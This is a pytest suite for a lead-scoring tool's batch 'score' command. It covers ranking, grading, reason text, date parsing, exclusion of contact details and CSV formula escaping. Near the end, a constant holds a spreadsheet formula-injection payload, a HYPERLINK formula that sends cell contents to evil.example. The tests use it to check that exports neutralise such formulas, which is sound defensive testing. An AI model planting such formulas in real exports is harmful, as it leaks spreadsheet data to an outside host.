"""Batch scoring (`leadml score`): open leads, ranked, explained, and written safely."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from leadml import schema
from leadml.batch import (
    RANKED_COLUMNS,
    REASONS_JSON,
    decode_reasons,
    encode_reasons,
    escape_formulas,
    grades_within_batch,
    open_leads,
    parse_as_of,
    reasons_text,
    run_batch,
    score_open_leads,
    top_reason,
)
from leadml.bundle import save_bundle
from leadml.config import Config, ScoreConfig, StoreConfig, load_config
from leadml.data.load import Dataset
from leadml.errors import InputError
from leadml.model.labels import data_end
from leadml.model.pipeline import TrainedModel
from leadml.scoring import Scorer
from leadml.store import batch_summary, lead_detail, open_store, ranked
from tests.flat_export import synthetic_export, write_export

PII = ("contact_name", "email", "phone")


def _reason(text: str, contribution: float) -> dict[str, object]:
    return {
        "field": "f",
        "feature": "f_col",
        "value": 1.5,
        "contribution": contribution,
        "probability_delta": contribution / 10,
        "text": text,
    }


@pytest.fixture(scope="module")
def as_of(small_data: Dataset) -> pd.Timestamp:
    return parse_as_of("latest", small_data.leads, small_data.events)


@pytest.fixture(scope="module")
def batch_small(small_data: Dataset, trained: TrainedModel, as_of: pd.Timestamp) -> object:
    return score_open_leads(
        small_data.leads,
        small_data.events,
        Scorer(trained.bundle),
        as_of=as_of,
        pass_through=PII,
        chunk_size=700,
    )


def test_open_leads_are_created_and_not_yet_converted() -> None:
    stamp = pd.Timestamp("2025-03-01", tz="UTC")
    leads = pd.DataFrame(
        {
            schema.LEAD_ID: ["open", "won", "won_later", "future"],
            schema.CREATED_AT: pd.to_datetime(
                ["2025-01-01", "2025-01-01", "2025-01-01", "2025-04-01"], utc=True
            ),
            schema.CONVERTED_AT: pd.to_datetime(
                pd.Series([None, "2025-02-01", "2025-05-01", None]), utc=True
            ),
        }
    )
    todo, converted, unborn = open_leads(leads, stamp)
    assert todo[schema.LEAD_ID].tolist() == ["open", "won_later"]
    assert (converted, unborn) == (1, 1)


def test_batch_scores_only_open_leads_in_rank_order(
    batch_small: object, small_data: Dataset, as_of: pd.Timestamp
) -> None:
    from leadml.batch import RankedBatch

    assert isinstance(batch_small, RankedBatch)
    frame = batch_small.frame
    expected, converted, unborn = open_leads(small_data.leads, as_of)
    assert sorted(frame["lead_id"]) == sorted(expected[schema.LEAD_ID])
    assert batch_small.excluded_converted == converted > 0
    assert batch_small.excluded_not_created == unborn
    assert frame["rank"].tolist() == list(range(1, len(frame) + 1))
    columns = (-frame["score"], -frame["probability"], -frame["raw_score"], frame["lead_id"])
    keys = list(zip(*columns, strict=True))
    assert keys == sorted(keys)
    assert frame["score"].between(1, 99).all()
    assert set(frame["grade"]) <= set("ABCD")
    table = batch_small.table()
    assert list(table.columns) == [*RANKED_COLUMNS, *PII]
    by_id = small_data.leads.set_index(schema.LEAD_ID)
    first = table.iloc[0]
    for column in ("company", "lead_source", *PII):
        assert first[column] == by_id.loc[first["lead_id"], column]
    assert batch_small.table(top=7)["rank"].tolist() == list(range(1, 8))


def test_batch_numbers_and_reasons_are_the_scorers(
    batch_small: object, small_data: Dataset, trained: TrainedModel, as_of: pd.Timestamp
) -> None:
    from leadml.batch import RankedBatch

    assert isinstance(batch_small, RankedBatch)
    frame = batch_small.frame.set_index("lead_id")
    sample = frame.index[:: max(1, len(frame) // 150)]
    leads = small_data.leads[small_data.leads[schema.LEAD_ID].isin(sample)]
    direct = Scorer(trained.bundle).score(leads, small_data.events, as_of=as_of).frame
    np.testing.assert_allclose(
        frame.loc[direct.index, "probability"], direct["probability"], rtol=0, atol=1e-12
    )
    assert frame.loc[direct.index, "grade"].tolist() == direct["grade"].tolist()
    assert frame.loc[direct.index, "stage"].tolist() == direct["stage"].tolist()
    for lead_id, reasons in direct["reasons"].items():
        assert frame.loc[lead_id, "reasons"] == reasons_text(reasons)
        stored = decode_reasons(frame.loc[lead_id, REASONS_JSON])
        assert [r["text"] for r in stored["positive"]] == [r["text"] for r in reasons["positive"]]


def test_chunk_size_changes_nothing_and_progress_reaches_the_end(
    small_data: Dataset, trained: TrainedModel, batch_small: object, as_of: pd.Timestamp
) -> None:
    from leadml.batch import RankedBatch

    assert isinstance(batch_small, RankedBatch)
    seen: list[tuple[int, int]] = []
    whole = score_open_leads(
        small_data.leads,
        small_data.events,
        Scorer(trained.bundle),
        as_of=as_of,
        pass_through=PII,
        chunk_size=1_000_000,
        on_progress=lambda done, total: seen.append((done, total)),
        scored_at=batch_small.scored_at,
    )
    pd.testing.assert_frame_equal(whole.frame, batch_small.frame)
    n = len(whole.frame)
    assert seen == [(0, n), (n, n)]


def test_batch_grade_mode_takes_the_shares_of_this_batch(
    small_data: Dataset, trained: TrainedModel, as_of: pd.Timestamp
) -> None:
    relative = score_open_leads(
        small_data.leads,
        small_data.events,
        Scorer(trained.bundle),
        as_of=as_of,
        grade_mode="batch",
    )
    shares = relative.frame["grade"].value_counts(normalize=True)
    assert shares["A"] == pytest.approx(0.10, abs=0.03)
    assert shares["B"] == pytest.approx(0.20, abs=0.04)
    assert shares["C"] == pytest.approx(0.30, abs=0.05)
    assert relative.grade_mode == "batch"
    # Grades still follow the ranking: no A below a B.
    order = relative.frame["grade"].map({"A": 0, "B": 1, "C": 2, "D": 3}).to_numpy()
    assert (np.diff(order) >= 0).all()


def test_relative_grades_keep_ties_together() -> None:
    p = np.array([0.9, 0.9, 0.9, 0.5, 0.5, 0.4, 0.3, 0.2, 0.1, 0.1])
    grades = grades_within_batch(p)
    assert grades[0] == grades[1] == grades[2] == "A"
    assert grades[8] == grades[9] == "D"
    assert grades_within_batch(np.array([])).size == 0


def test_unknown_grade_mode_is_a_named_error(small_data: Dataset, trained: TrainedModel) -> None:
    with pytest.raises(InputError) as caught:
        score_open_leads(
            small_data.leads.head(5),
            small_data.events,
            Scorer(trained.bundle),
            as_of=pd.Timestamp("2025-01-01", tz="UTC"),
            grade_mode="curve",
        )
    assert caught.value.column == "grade_mode"


def test_missing_pass_through_columns_are_empty_with_a_warning(
    small_data: Dataset, trained: TrainedModel, as_of: pd.Timestamp
) -> None:
    leads = small_data.leads.drop(columns=["phone"]).head(300)
    batch = score_open_leads(
        leads, small_data.events, Scorer(trained.bundle), as_of=as_of, pass_through=PII
    )
    assert batch.frame["phone"].isna().all()
    assert any("'phone'" in w for w in batch.warnings)


def test_no_open_leads_gives_an_empty_list(small_data: Dataset, trained: TrainedModel) -> None:
    early = small_data.leads[schema.CREATED_AT].min() - pd.Timedelta(days=1)
    batch = score_open_leads(
        small_data.leads, small_data.events, Scorer(trained.bundle), as_of=early
    )
    assert len(batch.frame) == 0
    assert list(batch.table().columns) == list(RANKED_COLUMNS)
    assert batch.summary().leads_scored == 0


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2025-06-30", "2025-06-30T00:00:00+00:00"),
        ("2025-06-30T08:30", "2025-06-30T08:30:00+00:00"),
        ("2025-06-30T10:30+02:00", "2025-06-30T08:30:00+00:00"),
        ("now", "2024-02-03T04:05:06+00:00"),
        (None, "2024-02-03T04:05:06+00:00"),
    ],
)
def test_as_of_is_read_as_utc(text: str | None, expected: str) -> None:
    empty = pd.DataFrame()
    now = pd.Timestamp("2024-02-03T04:05:06Z")
    assert parse_as_of(text, empty, empty, now=now).isoformat() == expected


def test_as_of_latest_is_the_midnight_after_the_data(small_data: Dataset) -> None:
    stamp = parse_as_of("latest", small_data.leads, small_data.events)
    end = data_end(small_data.leads, small_data.events)
    assert stamp > end and stamp - end <= pd.Timedelta(days=1)
    assert stamp == stamp.floor("D")


@pytest.mark.parametrize("text", ["yesterday-ish", "2025-13-45"])
def test_a_bad_as_of_names_the_option(text: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_as_of(text, pd.DataFrame(), pd.DataFrame())
    assert caught.value.column == "--as-of"


def test_reasons_text_lists_three_for_and_one_against() -> None:
    reasons = {
        "positive": [_reason(f"good {k}", 1.0 / (k + 1)) for k in range(3)],
        "negative": [_reason("bad 0", -0.5), _reason("bad 1", -0.1)],
    }
    assert reasons_text(reasons) == "good 0; good 1; good 2 | Against: bad 0"
    assert top_reason(reasons) == "good 0"
    only_bad = {"positive": [], "negative": reasons["negative"]}
    assert reasons_text(only_bad) == "Against: bad 0"
    assert top_reason(only_bad) == "Against: bad 0"
    assert reasons_text({"positive": [], "negative": []}) == top_reason({}) == ""


def test_encoded_reasons_round_trip() -> None:
    reasons = {
        "positive": [_reason("Requested a demo 2 days ago", 0.123456789)],
        "negative": [{**_reason("Zürich – small team", -0.5), "value": None}],
    }
    back = decode_reasons(encode_reasons(reasons))
    assert back["positive"][0]["contribution"] == 0.123456789
    assert back["negative"][0]["text"] == "Zürich – small team"
    assert back["negative"][0]["value"] is None
    assert set(back["positive"][0]) == set(reasons["positive"][0])
    assert decode_reasons(None) == {"positive": [], "negative": []}


def _leadml(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "leadml_serve.cli", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "COLUMNS": "200"},
    )


@pytest.mark.slow
def test_leadml_score_end_to_end(
    small_data_dir: Path, trained: TrainedModel, tmp_path: Path
) -> None:
    bundle = save_bundle(trained.bundle, tmp_path / "bundle")
    out = tmp_path / "lists" / "ranked.csv"
    store = f"sqlite:///{tmp_path / 'scores.db'}"
    args = ["--data", str(small_data_dir), "--model", str(bundle), "--as-of", "latest"]
    done = _leadml("score", *args, "--out", str(out), "--store", store, cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Top 10 leads" in done.stdout and "Grades: A" in done.stdout
    listed = pd.read_csv(out)
    assert list(listed.columns) == [*RANKED_COLUMNS, *PII]
    assert listed["rank"].tolist() == list(range(1, len(listed) + 1))
    assert listed["reasons"].str.len().gt(0).all()
    engine = open_store(store)
    try:
        rows, total = ranked(engine, limit=3)
        assert total == len(listed)
        assert [r["lead_id"] for r in rows] == listed["lead_id"].head(3).tolist()
        detail = lead_detail(engine, str(listed["lead_id"].iloc[0]))
        assert detail is not None and detail["trend"] == "new"
    finally:
        engine.dispose()
    before = out.read_bytes()

    # Bad input: a clear one-line error, exit 1, and the previous list left intact.
    failed = _leadml("score", *args[:4], "--as-of", "someday", "--out", str(out), cwd=tmp_path)
    assert failed.returncode == 1
    assert "--as-of" in failed.stderr and "Traceback" not in failed.stderr
    assert out.read_bytes() == before
    assert sorted(p.name for p in out.parent.iterdir()) == ["ranked.csv"]

    top = tmp_path / "top.parquet"
    small = _leadml(
        "score", *args, "--out", str(top), "--top", "5", "--no-store", "--grades", "batch",
        "--columns", "email", cwd=tmp_path,
    )  # fmt: skip
    assert small.returncode == 0, small.stdout + small.stderr
    listed_top = pd.read_parquet(top)
    assert list(listed_top.columns) == [*RANKED_COLUMNS, "email"]
    assert len(listed_top) == 5


def test_score_help_has_an_example() -> None:
    from typer.testing import CliRunner

    from leadml.cli import app

    result = CliRunner().invoke(app, ["score", "--help"])
    assert result.exit_code == 0, result.output
    assert "Example" in result.output and "--as-of" in result.output


@pytest.mark.parametrize("as_of", ["2026-01-01", "latest"])
def test_as_of_on_a_flat_export_is_refused_not_ignored(
    tmp_path: Path, as_of: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A flat export is as of the day it was exported: an explicit --as-of cannot hold."""
    from typer.testing import CliRunner

    from leadml.batch import run_batch
    from leadml.cli import app
    from leadml.config import load_config

    export = tmp_path / "export.csv"
    export.write_text("id,views\nA,3\nB,5\n", encoding="utf-8")
    config = load_config(project_dir=tmp_path)
    with pytest.raises(InputError, match="--as-of cannot be applied to a flat export") as info:
        run_batch(export, config, model=str(tmp_path / "no-model"), as_of=as_of, store=False)
    assert info.value.value == as_of and info.value.file == export
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(
        app, ["score", "--data", str(export), "--as-of", as_of, "--no-store"]
    )
    assert result.exit_code == 1
    assert "--as-of" in result.output + str(result.exception)


def test_csv_cells_that_start_like_formulas_get_a_quote() -> None:
    text = ["=1+1", "+44 20 7946", "-5", "@SUM(A1)", "\tx", "\rx", "ok", None, "-", "1e5"]
    frame = pd.DataFrame(
        {
            "company": pd.Series(text, dtype="str"),
            "score": np.arange(-5, 5),
            "mixed": pd.Series([-2.5, "=x", None, "+1.5e3", 7, "a", "b", "c", "d", "e"]),
        }
    )
    safe = escape_formulas(frame)
    want = ["'=1+1", "'+44 20 7946", "-5", "'@SUM(A1)", "'\tx", "'\rx", "ok", None, "'-", "1e5"]
    got = safe["company"].tolist()
    assert [None if pd.isna(v) else v for v in got] == want
    assert safe["company"].dtype == frame["company"].dtype
    assert safe["score"].tolist() == list(range(-5, 5))  # numbers are not text
    assert safe["mixed"].tolist()[:5] == [-2.5, "'=x", None, "+1.5e3", 7]
    assert frame["company"].iloc[0] == "=1+1", "the input frame is left as it was"


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.fixture(scope="module")
def flat_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Config, Path]:
    """A flat export (Email, Phone: role pii) with a formula as one open lead's company,
    and a flat model trained on it."""
    from leadml.data.mapping import read_flat
    from leadml.model.pipeline import fit_and_evaluate_flat

    folder = tmp_path_factory.mktemp("flat")
    frame = synthetic_export(1500, seed=4)
    frame.loc[frame.index[frame["Converted"] == "0"][0], "Company Name"] = EVIL
    config = load_config(
        write_export(folder, frame),
        overrides={"train": {"bootstrap_rounds": 0, "shap_sample": 100, "num_threads": 1}},
    )
    assert config.dataset is not None
    trained = fit_and_evaluate_flat(read_flat(folder / "export.csv", config.dataset), config)
    return folder, config, save_bundle(trained.bundle, folder / "bundle")


def _flat_run(
    flat_project: tuple[Path, Config, Path], name: str, score: ScoreConfig | None = None
) -> tuple[pd.DataFrame, str]:
    folder, config, bundle = flat_project
    url = f"sqlite:///{folder / name}.db"
    update: dict[str, object] = {"store": StoreConfig(url=url)}
    if score is not None:
        update["score"] = score
    out = folder / name / "ranked.csv"
    run_batch(folder / "export.csv", config.model_copy(update=update), model=str(bundle), out=out)
    return pd.read_csv(out, dtype=str, keep_default_na=False), url


def test_flat_contact_details_leave_only_when_listed(
    flat_project: tuple[Path, Config, Path],
) -> None:
    listed, url = _flat_run(flat_project, "default")
    assert list(listed.columns) == [*RANKED_COLUMNS, "Company Name"]
    engine = open_store(url)
    try:
        summary = batch_summary(engine)
        assert summary is not None and summary["batch"]["pass_through"] == ["Company Name"]
        rows, _ = ranked(engine, limit=None)
        assert not {"Email", "Phone"} & set(rows[0])
    finally:
        engine.dispose()
    opted, url = _flat_run(flat_project, "opted", ScoreConfig(pass_through=("Email",)))
    assert list(opted.columns) == [*RANKED_COLUMNS, "Company Name", "Email"]
    assert opted["Email"].str.endswith("@example.com").all()


def test_flat_list_csv_escapes_formulas_and_filters_sources_as_written(
    flat_project: tuple[Path, Config, Path],
) -> None:
    listed, url = _flat_run(flat_project, "escaped")
    evil = listed[listed["Company Name"].str.contains("HYPERLINK")]
    assert len(evil) == 1
    assert evil["Company Name"].iloc[0] == evil["company"].iloc[0] == "'" + EVIL
    engine = open_store(url)
    try:
        rows, _ = ranked(engine, q="HYPERLINK")
        assert [r["company"] for r in rows] == [EVIL]  # the store keeps the real value
        summary = batch_summary(engine)
        assert summary is not None and "Google" in summary["sources"]
        for name, n in summary["sources"].items():  # what the sales page passes back
            found, total = ranked(engine, limit=None, source=name)
            assert total == n == len(found) > 0
            assert {r["lead_source"] for r in found} == {name}
    finally:
        engine.dispose()
